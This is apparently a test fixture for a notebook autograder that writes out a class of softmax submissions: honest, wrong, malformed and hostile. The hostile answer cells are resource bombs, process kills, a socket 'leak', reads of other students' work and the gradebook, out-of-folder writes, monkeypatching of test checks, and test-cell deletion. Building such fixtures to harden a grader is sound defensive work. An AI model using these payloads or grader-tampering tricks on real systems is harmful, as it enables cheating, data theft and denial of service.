"""A class of softmax submissions: honest, wrong, hostile and broken ones, for the batch grader.

Each hostile submission is the released exercise with its answer cell replaced by an attack.
Paths the attacks aim at are filled in when the class is built, so they point at the real
course folder, the real repository and the other students' real folders.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder.release import REPO_ROOT

ASSIGNMENT = NOTEBOOK = "softmax"
ANSWER_CELL = "softmax-solution"

CORRECT = """
def softmax(logits, dim=-1):
    shifted = logits - logits.amax(dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / e.sum(dim=dim, keepdim=True)
"""

# Honest students, each written differently; all earn full marks.
HONEST = {
    "honest-amax": CORRECT,
    "honest-logsumexp": "def softmax(logits, dim=-1):\n    return torch.exp(logits - torch.logsumexp(logits, dim, keepdim=True))\n",
    "honest-float64": "def softmax(logits, dim=-1):\n    x = logits.double()\n    e = (x - x.max(dim, keepdim=True).values).exp()\n    return (e / e.sum(dim, keepdim=True)).to(logits.dtype)\n",
}

NAIVE = "def softmax(logits, dim=-1):\n    e = torch.exp(logits)\n    return e / e.sum(dim, keepdim=True)\n"


@dataclass(frozen=True)
class Attack:
    """A hostile answer cell; ``code`` may use {course}, {repo} and {victim} placeholders."""

    student: str
    code: str
    what: str


ATTACKS = [
    Attack("hang", "while True:\n    pass\n" + CORRECT, "an infinite loop in the answer cell"),
    Attack("memory-bomb", "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))\n" + CORRECT,
           "allocates memory without end"),
    Attack("fork-bomb", "import os\nfor _ in range(64):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
           + CORRECT, "forks without end"),
    Attack("sys-exit", "import sys\nsys.exit(0)\n" + CORRECT, "calls sys.exit"),
    Attack("os-exit", "import os\nos._exit(0)\n", "kills its own kernel with os._exit"),
    Attack("kill-parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + NAIVE,
           "kills its parent process"),
    Attack("segfault", "import ctypes\nctypes.string_at(0)\n", "segfaults through ctypes"),
    Attack("flood", "import sys\nsys.stdout.write('x' * 100_000_000)\n" + NAIVE, "prints 100 MB"),
    Attack("network", "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
           "except OSError as error:\n    print('no network:', error)\n" + NAIVE, "opens a network connection"),
    Attack("reader", "stolen = dict()\nfor path in [{victim_notebook!r}, {gradebook!r}, {solution!r}, {reference!r}]:\n"
           "    try:\n        stolen[path] = open(path).read()\n    except OSError as error:\n"
           "        print('blocked:', path, type(error).__name__)\n"
           "if {reference!r} in stolen:\n    exec(stolen[{reference!r}])  # the reference's own softmax\n"
           "else:\n" + "".join("    " + line + "\n" for line in NAIVE.splitlines()),
           "reads another student's notebook, the gradebook, a solution and the reference"),
    Attack("writer", "for path in [{gradebook!r}, {victim_notebook!r}, {outside!r}]:\n    try:\n"
           "        open(path, 'a').write('tampered')\n    except OSError as error:\n        print('blocked:', type(error).__name__)\n"
           + NAIVE, "writes outside its folder"),
    Attack("monkeypatch", "import builtins, torch, autograder.probe\ntorch.allclose = lambda *a, **k: True\n"
           "torch.testing.assert_close = lambda *a, **k: None\nbuiltins.all = lambda *a: True\n"
           "builtins.abs = lambda x: 0\n"
           "autograder.probe.check = lambda *a, **k: print('passed')\n" + NAIVE.replace("e / e.sum", "e * e.sum"),
           "monkeypatches torch, builtins and the hidden-test entry point"),
    Attack("always-equal", "class Anything:\n    def __eq__(self, other):\n        return True\n"
           "    def __getattr__(self, name):\n        return lambda *a, **k: self\n"
           "def softmax(logits, dim=-1):\n    return Anything()\n", "returns an object equal to everything"),
]


def _notebook_with_answer(exercise: Path, code: str) -> str:
    notebook = nbformat.read(exercise, as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == ANSWER_CELL:
            cell.source = code
    return nbformat.writes(notebook)


def _delete_test_cells(exercise: Path) -> str:
    """Deletes the visible test cell and sets every remaining test cell to 100 points."""
    notebook = nbformat.read(exercise, as_version=4)
    notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test-softmax-basics"]
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == ANSWER_CELL:
            cell.source = NAIVE
        if meta.get("grade"):
            meta["points"] = 100
    return nbformat.writes(notebook)


def build_class(course: Path, exercise: Path, port: int) -> dict[str, str]:
    """Write every submission under ``course/submitted``; return {student: what it does}."""
    submitted = course / "submitted"
    paths = {
        "course": str(course), "repo": str(REPO_ROOT), "port": port,
        "victim_notebook": str(submitted / "honest-amax" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
        "gradebook": str(course / "gradebook.db"),
        "solution": str(REPO_ROOT / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
        "reference": str(REPO_ROOT / "autograder" / "reference" / "activations.py"),
        "outside": "/tmp/written-by-a-student",
    }
    files: dict[str, dict[str, str | bytes]] = {}
    described: dict[str, str] = {}
    for student, code in {**HONEST, "wrong-naive": NAIVE}.items():
        files[student] = {f"{NOTEBOOK}.ipynb": _notebook_with_answer(exercise, code)}
        described[student] = "honest" if student in HONEST else "a wrong (naive) softmax"
    for attack in ATTACKS:
        files[attack.student] = {f"{NOTEBOOK}.ipynb": _notebook_with_answer(exercise, attack.code.format(**paths))}
        described[attack.student] = attack.what
    files["edits-tests"] = {f"{NOTEBOOK}.ipynb": _delete_test_cells(exercise)}
    described["edits-tests"] = "deletes a test cell and raises the points of the others"
    files["corrupt-json"] = {f"{NOTEBOOK}.ipynb": '{"cells": [ this is not json'}
    files["nbformat3"] = {f"{NOTEBOOK}.ipynb": json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                                          "worksheets": [{"cells": []}]})}
    files["empty-folder"] = {}
    files["not-utf8"] = {f"{NOTEBOOK}.ipynb": b"\xff\xfe\x00not utf-8 \xe9\xe8"}
    files["wrong-name"] = {"Softmax (1).ipynb": _notebook_with_answer(exercise, CORRECT)}
    described.update({"corrupt-json": "corrupt JSON", "nbformat3": "an nbformat 3 notebook",
                      "empty-folder": "an empty folder", "not-utf8": "a non-UTF-8 file",
                      "wrong-name": "a wrongly named notebook"})
    for student, contents in files.items():
        folder = submitted / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in contents.items():
            data = content.encode() if isinstance(content, str) else content
            (folder / name).write_bytes(data)
    return described
